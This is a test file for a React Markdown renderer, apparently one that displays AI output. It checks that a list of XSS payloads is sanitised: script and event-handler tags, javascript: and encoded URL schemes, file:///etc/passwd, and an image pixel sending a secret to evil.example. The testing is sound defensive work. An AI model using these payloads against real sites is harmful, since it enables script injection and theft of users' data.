// @vitest-environment jsdom
import { cleanup, render } from '@testing-library/react'
import { afterEach, describe, expect, test, vi } from 'vitest'
import * as block from '../../src/parts/markdown/code-block'
import { Markdown } from '../../src/parts/markdown/markdown'

afterEach(cleanup)

const html = (text: string) => render(<Markdown text={text} />).container

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext></mtext><script>alert(1)</script></math>',
  'text <b onmouseover=alert(1)>bold</b>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](/api/login)',
  '[x](https://good.example@evil.example/)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/pixel.png?q=secret)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](https://evil.example/a.png)](https://evil.example/b)',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <script>alert(1)</script> | [x](javascript:a) |\n|---|---|\n| <img src=x onerror=a> | b |',
  '# <img src=x onerror=alert(1)>',
  '- [ ] <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  `${'['.repeat(500)}x${']'.repeat(500)}(javascript:a)`,
  `${'> '.repeat(300)}<script>alert(1)</script>`,
]

const ALLOWED = new Set(
  'A BLOCKQUOTE BR BUTTON CODE DEL DIV EM FIGCAPTION FIGURE H1 H2 H3 H4 H5 H6 HR INPUT LI OL P PRE SPAN STRONG TABLE TBODY TD TH THEAD TR UL svg path rect circle g'.split(
    ' ',
  ),
)

describe('what a model writes', () => {
  test.each(HOSTILE)('%s becomes nothing but harmless elements', (text) => {
    const shown = html(text)
    for (const element of shown.querySelectorAll('*')) {
      expect(ALLOWED).toContain(element.tagName)
      for (const { name } of element.attributes) {
        expect(name).not.toMatch(/^on|^(src|srcset|style|formaction|action|srcdoc|background|poster)$/)
      }
      if (element.tagName === 'INPUT') expect(element.getAttribute('disabled')).not.toBeNull()
    }
    for (const link of shown.querySelectorAll('a')) {
      expect(link.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/)
      expect(link.getAttribute('href')).not.toContain('@evil')
      expect(link.rel).toBe('noopener noreferrer')
      expect(link.target).toBe('_blank')
      expect(link.title).toBe(link.getAttribute('href'))
    }
  })

  test('no picture is fetched; a link names where it is', () => {
    const shown = html('![chart](https://pics.example/c.png)')
    expect(shown.querySelector('img')).toBeNull()
    expect(shown.textContent).toContain('show image at pics.example')
  })

  test('a link whose text claims another place says where it goes', () => {
    expect(html('[https://bank.example](https://evil.example/x)').textContent).toContain('(evil.example)')
    expect(html('[bank.example/login](https://bank.example/login)').textContent).not.toContain('(')
    expect(html('https://plain.example/a').querySelector('a')?.getAttribute('href')).toBe(
      'https://plain.example/a',
    )
  })

  test('ordinary Markdown is shown as meant', () => {
    const shown = html('A **b** _c_ `d` ~~e~~ &amp; &lt;f&gt; AT&T &unknown;\n\n1. x\n2. y\n\n- [x] done')
    expect(shown.querySelector('strong')?.textContent).toBe('b')
    expect(shown.textContent).toContain('& <f> AT&T &unknown;')
    expect(shown.querySelectorAll('ol > li')).toHaveLength(2)
    expect(shown.querySelector<HTMLInputElement>('li.task input')?.checked).toBe(true)
    expect(html('a\n\n<br>\n\nb<br>c').querySelectorAll('br').length).toBeGreaterThan(0)
  })

  test('known languages are coloured, unknown ones plain', () => {
    expect(
      html('```java\nvoid x() {}\n```').querySelector('.hljs-title, .hljs-keyword, .hljs-type'),
    ).not.toBeNull()
    expect(html('```nosuch\nvoid x() {}\n```').querySelector('[class^=hljs]')).toBeNull()
  })
})

describe('while it streams', () => {
  test('finished blocks are not rendered again', () => {
    const renders = vi.spyOn(block, 'CodeBlock')
    const start = '```js\nconst a = 1\n```\n\n'
    const show = (text: string) => <Markdown text={text} live />
    const { rerender, container } = render(show(`${start}And`))
    const before = renders.mock.calls.length
    expect(before).toBeGreaterThan(0)
    const code = container.querySelector('pre')
    let text = `${start}And`
    for (const word of ' then some more words come in one by one'.split(' ')) {
      text += ` ${word}`
      rerender(show(text))
    }
    expect(container.querySelector('pre')).toBe(code)
    expect(renders.mock.calls.length).toBe(before)
    expect(container.textContent).toContain('one by one')
  })

  test('growing code is coloured line by line, and whole once it has ended', () => {
    const coloured = (element: Element) =>
      [...element.querySelectorAll('.hljs-keyword')].map((word) => word.textContent)
    const { rerender, container } = render(<Markdown text={'```js\nconst a = 1\nlet b'} live />)
    expect(coloured(container)).toEqual(['const'])
    expect(container.querySelector('code')?.textContent).toBe('const a = 1\nlet b')
    rerender(<Markdown text={'```js\nconst a = 1\nlet b'} />)
    expect(coloured(container)).toEqual(['const', 'let'])
    expect(container.querySelector('code')?.textContent).toBe('const a = 1\nlet b')
  })

  test('what it said keeps its elements when it ends, and a link may be explained last', () => {
    const text = 'See [the rules][1].\n\nMore.\n\n[1]: https://example.org/rules'
    const { rerender, container } = render(<Markdown text="" live />)
    for (let end = 1; end <= text.length; end++) rerender(<Markdown text={text.slice(0, end)} live />)
    const more = container.querySelectorAll('p')[1]
    rerender(<Markdown text={text} />)
    expect(container.querySelector('a')?.href).toBe('https://example.org/rules')
    expect(container.querySelectorAll('p')[1]).toBe(more)
  })
})
